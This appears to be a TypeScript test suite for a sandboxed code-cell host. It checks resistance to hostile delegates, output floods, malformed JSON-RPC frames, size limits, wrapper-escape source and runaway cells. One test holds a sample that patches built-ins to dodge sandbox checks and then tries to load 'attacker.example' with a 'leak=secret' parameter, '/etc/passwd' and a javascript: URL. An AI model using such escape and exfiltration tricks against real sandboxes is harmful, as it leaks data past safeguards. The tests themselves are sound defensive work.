// Issue 20: misbehaving delegates, hostile cells and broken peers never crash or hang anything.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { RecordingDelegate, texts, waitFor } from '../helpers.js';
import { bothKinds } from '../sessions.js';

/** Values a buggy or hostile delegate may throw. */
function hostileThrowables(): unknown[] {
  const { proxy, revoke } = Proxy.revocable(new Error('revoked'), {});
  revoke();
  const getter = new Error('x');
  Object.defineProperty(getter, 'message', {
    get: () => {
      throw new Error('no message for you');
    },
  });
  return [proxy, getter, new Proxy(new Error('wrapped'), {}), Symbol('thrown'), null];
}

for (const kind of bothKinds) {
  describe(`${kind.name}: misbehaving delegates`, () => {
    test('a delegate that throws a revoked proxy, an error with a throwing getter or a symbol fails the call, and nothing crashes', async (t) => {
      const throwables = hostileThrowables();
      let next = 0;
      const delegate = new RecordingDelegate({
        bad: () => {
          throw throwables[next++ % throwables.length];
        },
      });
      delegate.notifyHandler = () => {
        throw throwables[0];
      };
      delegate.cellClosedHandler = () => {
        throw throwables[1];
      };
      const session = await kind.open(t, delegate, { tools: [{ name: 'bad' }] });
      const source = `let failed = 0; for (let i = 0; i < ${throwables.length}; i++) { try { await tools.bad({}) } catch (e) { failed++ } } notify("n"); text(failed)`;
      const event = await (await session.execute({ source })).initialEvent;
      assert.deepEqual(texts(event), [String(throwables.length)]);
      await waitFor(() => delegate.closed.length === 1);
    });

    test('a tool result that is not JSON (BigInt, cycle, function) rejects the call with the same message in-process and remote', async (t) => {
      const cyclic: Record<string, unknown> = {};
      cyclic.self = cyclic;
      const session = await kind.open(
        t,
        new RecordingDelegate({ big: () => 10n as never, loop: () => cyclic as never, fn: () => (() => 1) as never }),
        {
          tools: [{ name: 'big' }, { name: 'loop' }, { name: 'fn' }],
        },
      );
      const source =
        'for (const name of ["big", "loop", "fn"]) { try { await tools[name]({}); text("resolved") } catch (e) { text(e.message.split("\\n")[0]) } }';
      const event = await (await session.execute({ source })).initialEvent;
      assert.deepEqual(texts(event), [
        'tools.big returned a value that is not JSON: a bigint is not a JSON value',
        'tools.loop returned a value that is not JSON: Converting circular structure to JSON',
        'tools.fn returned a value that is not JSON: a function is not a JSON value',
      ]);
    });
  });
}

for (const kind of bothKinds) {
  describe(`${kind.name}: rules enforced by the host`, () => {
    test('a cell that patches the intrinsics behind the sandbox checks still cannot deliver a remote image or a blank notification', async (t) => {
      const delegate = new RecordingDelegate();
      const session = await kind.open(t, delegate);
      const source = [
        'RegExp.prototype.test = function () { return this.source.startsWith("^data"); };',
        'String.prototype.trim = function () { return "not blank"; };',
        'for (const url of ["https://attacker.example/pixel.png?leak=secret", "file:///etc/passwd", "javascript:alert(1)", "data:text/html,<b>x</b>"]) image(url);',
        'notify("   ");',
        'text("done")',
      ].join('\n');
      const event = await (await session.execute({ source })).initialEvent;
      assert.deepEqual(event.items, [{ type: 'text', text: 'done' }]);
      assert.deepEqual(delegate.notifications, []);
    });

    test('image() refuses a data: URL that is not an image', async (t) => {
      const session = await kind.open(t, new RecordingDelegate());
      const event = await (await session.execute({ source: 'image("data:text/plain,hello")' })).initialEvent;
      assert.match(
        event.kind === 'completed' ? (event.error ?? '') : '',
        /^TypeError: image\(\) expects a data: URL of an image type/,
      );
    });
  });
}

for (const kind of bothKinds) {
  describe(`${kind.name}: floods`, () => {
    for (const flood of [
      'for (;;) text("")',
      'for (;;) console.log()',
      'for (;;) notify("x")',
      'for (;;) store("k", 1)',
      'for (;;) image("data:image/png,")',
    ]) {
      test(`a cell that never stops sending (${flood}) is terminated, and other sessions are served meanwhile`, async (t) => {
        // Conditions, not clocks: the flood guard ends the cell (outputLimit) when its messages
        // hold the main thread; on a loaded machine where the host keeps up with it, nothing is
        // starved, and its wall time ends it after the neighbour was served.
        const session = await kind.open(t, new RecordingDelegate(), {
          limits: { wallTimeMs: 2_000 },
          storedValues: 'enabled',
        });
        const other = await kind.open(t, new RecordingDelegate());
        const order: string[] = [];
        const { initialEvent } = await session.execute({ source: flood }, { kind: 'yieldAfter', ms: 60_000 });
        const [event, neighbour] = await Promise.all([
          initialEvent.then((ended) => (order.push('flood ended'), ended)),
          (await other.execute({ source: 'text("served")' })).initialEvent.then((done) => (order.push('served'), done)),
        ]);
        assert.equal(event.kind, 'terminated', JSON.stringify(event).slice(0, 200));
        const reason = event.kind === 'terminated' ? event.reason : undefined;
        assert.ok(
          reason === 'outputLimit' || (reason === 'timeLimit' && order[0] === 'served'),
          `${String(reason)}; ${order.join(', ')}`,
        );
        assert.deepEqual(texts(neighbour), ['served']);
      });
    }
  });
}

for (const kind of bothKinds) {
  describe(`${kind.name}: many outputs`, () => {
    test('a cell of 400 000 text() calls completes with every item, in order: its outcome is its limits, not the clock', async (t) => {
      // It used to end as a flood (outputLimit) at a point set by how fast the host read it.
      const session = await kind.open(t, new RecordingDelegate());
      const { initialEvent } = await session.execute(
        { source: 'for (let i = 0; i < 400_000; i++) text(i)' },
        { kind: 'yieldAfter', ms: 120_000 },
      );
      const event = await initialEvent;
      assert.equal(event.kind, 'completed', JSON.stringify(event).slice(0, 200));
      const items = texts(event);
      assert.equal(items.length, 400_000);
      assert.equal(items[0], '0');
      assert.equal(items[399_999], '399999');
    });

    // The count is the cell's own (src/cell/output.ts), wherever it runs: checked once, in process.
    if (kind !== bothKinds[0]) return;
    test('a cell emits at most 1 048 576 items, empty ones too: past that it ends with outputLimit, every item kept', async (t) => {
      const session = await kind.open(t, new RecordingDelegate(), { limits: { wallTimeMs: 0, cpuTimeMs: 0 } });
      const { initialEvent } = await session.execute(
        { source: 'for (;;) text("")' },
        { kind: 'yieldAfter', ms: 120_000 },
      );
      const event = await initialEvent;
      assert.deepEqual([event.kind, event.kind === 'terminated' && event.reason], ['terminated', 'outputLimit']);
      assert.equal(texts(event).length, 1_048_576);
    });
  });
}

describe('a misbehaving peer', () => {
  test('positional params are -32602, a request with id null is -32600, and a second request with an id in flight is refused', async (t) => {
    const { rawHost, frame, pendingCell } = await import('../wire.js');
    const raw = await rawHost(t);
    raw.write(frame(JSON.stringify({ jsonrpc: '2.0', id: 'p', method: 'session/create', params: [{ tools: [] }] })));
    assert.equal((await raw.log.next((m) => m.id === 'p')).error?.code, -32602);
    raw.write(frame(JSON.stringify({ jsonrpc: '2.0', id: null, method: 'host/ping', params: {} })));
    assert.equal((await raw.log.next((m) => m.id === null && m.error?.code === -32600)).error?.code, -32600);
    const { sessionId, cellId } = await pendingCell(raw);
    const observe = JSON.stringify({
      jsonrpc: '2.0',
      id: 'dup',
      method: 'cell/observe',
      params: { sessionId, cellId, mode: { kind: 'yieldAfter', ms: 100 } },
    });
    raw.write(frame(observe));
    raw.write(frame(observe));
    const first = await raw.log.next((m) => m.id === 'dup');
    assert.equal(first.error?.code, -32600, 'the duplicate is refused at once');
    const second = await raw.log.next((m) => m.id === 'dup' && m !== first);
    assert.equal((second.result as { kind?: string }).kind, 'yielded', 'the first request still gets its one answer');
  });

  test('a malformed Content-Length or an endless header costs a parse error, and the next frames are still served', async (t) => {
    const { rawHost } = await import('../wire.js');
    const raw = await rawHost(t);
    raw.write('Content-Length: abc\r\n\r\n{"jsonrpc":"2.0","id":1,"method":"host/ping","params":{}}');
    assert.equal((await raw.call('host/ping', {})).result !== undefined, true, 'served after a bad Content-Length');
    const start = performance.now();
    for (let i = 0; i < 256; i++) raw.write(Buffer.alloc(64 * 1024, 0x61)); // 16 MiB of header that never ends
    assert.equal((await raw.call('host/ping', {})).result !== undefined, true, 'served after an endless header');
    assert.ok(performance.now() - start < 5_000, `${performance.now() - start} ms`);
    assert.ok(
      raw.log.messages.some((m) => m.error?.code === -32700),
      'the bad bytes were answered with a parse error',
    );
  });
});

for (const kind of bothKinds) {
  describe(`${kind.name}: size limits on every channel`, () => {
    test('notify() over maxNotificationBytes throws a RangeError in the cell', async (t) => {
      const delegate = new RecordingDelegate();
      const session = await kind.open(t, delegate, { limits: { maxNotificationBytes: 1024 } });
      const event = await (
        await session.execute({
          source:
            'notify("x".repeat(1024)); try { notify("é".repeat(600)) } catch (e) { text(e.name + ": " + e.message) }',
        })
      ).initialEvent;
      assert.deepEqual(texts(event), [
        'RangeError: notify() message is 1200 bytes, over the maxNotificationBytes limit of 1024',
      ]);
      assert.equal(delegate.notifications.length, 1);
      await assert.rejects(
        session.execute({ source: 'text(1)', limits: { maxStoredBytes: 10 } }),
        { code: 'ERR_INVALID_REQUEST' },
        'a session limit',
      );
    });

    test('stored values are bounded per session, and never compiled into later cells', async (t) => {
      const session = await kind.open(t, new RecordingDelegate(), {
        storedValues: 'enabled',
        limits: { maxStoredBytes: 3 * 1024 * 1024 },
      });
      const first = await (
        await session.execute({
          source:
            'store("big", "x".repeat(2 * 1024 * 1024)); try { store("more", "y".repeat(1024 * 1024)) } catch (e) { text(e.name) } store("big", "small"); store("more", "y".repeat(1024 * 1024)); text("ok")',
        })
      ).initialEvent;
      assert.deepEqual(texts(first), ['RangeError', 'ok']);
      const later = await (
        await session.execute({ source: 'text(load("big") + " " + load("more").length)' })
      ).initialEvent;
      assert.deepEqual(texts(later), [`small ${1024 * 1024}`]);
      // The stored megabyte is data for each cell, not source: a cell with a syntax error on line 1
      // still reports line 1, and maxSourceBytes counts only the cell.
      const small = await (await session.execute({ source: 'text(1)', limits: { maxSourceBytes: 64 } })).initialEvent;
      assert.deepEqual(texts(small), ['1']);
    });
  });
}

for (const kind of bothKinds) {
  describe(`${kind.name}: the cell's wrapper`, () => {
    test('source that closes the wrapper fails the cell with its error, and the runtime hook is out of reach', async (t) => {
      const session = await kind.open(t, new RecordingDelegate(), { limits: { maxCellsPerSession: 2 } });
      const escaped = await (
        await session.execute({ source: 'text("before");\n} catch (e) {} throw new Error("x"); try {' })
      ).initialEvent;
      assert.equal(escaped.kind, 'completed');
      assert.match(escaped.kind === 'completed' ? (escaped.error ?? '') : '', /^Error: x/);
      const probe = await (
        await session.execute({ source: 'text(typeof globalThis.__codecell$); text(typeof __codecell$)' })
      ).initialEvent;
      assert.deepEqual(texts(probe), ['undefined', 'undefined']);
      // Neither cell kept its slot.
      assert.deepEqual(texts(await (await session.execute({ source: 'text("next")' })).initialEvent), ['next']);
    });
  });
}

for (const kind of bothKinds) {
  describe(`${kind.name}: ending cells that will not stop`, () => {
    test('terminate returns within the deadline while a long built-in (a 1M-element sort) holds the isolate', async (t) => {
      const session = await kind.open(t, new RecordingDelegate());
      const source =
        'const a = Array.from({ length: 1_000_000 }, (_, i) => String(1_000_000 - i)); yield_control(); a.sort(); a.sort(); text("sorted")';
      const { cellId, initialEvent } = await session.execute({ source }, { kind: 'yieldAfter', ms: 60_000 });
      assert.equal((await initialEvent).kind, 'yielded');
      const start = performance.now();
      assert.equal((await session.terminate(cellId)).kind, 'terminated');
      assert.ok(performance.now() - start < 600, `terminate took ${performance.now() - start} ms`);
    });

    test('code past a caught exit() and microtasks that never stop queueing cannot keep a finished cell running', async (t) => {
      const session = await kind.open(t, new RecordingDelegate());
      const start = performance.now();
      const caught = await (
        await session.execute({ source: 'notify("x"); try { exit() } catch {} for (;;) {}' })
      ).initialEvent;
      assert.equal(caught.kind, 'completed');
      const spinning = await (
        await session.execute({ source: 'const f = () => Promise.resolve().then(f); f(); text("done")' })
      ).initialEvent;
      assert.deepEqual([spinning.kind, texts(spinning)], ['completed', ['done']]);
      assert.ok(performance.now() - start < 5_000, `${performance.now() - start} ms`);
    });
  });
}
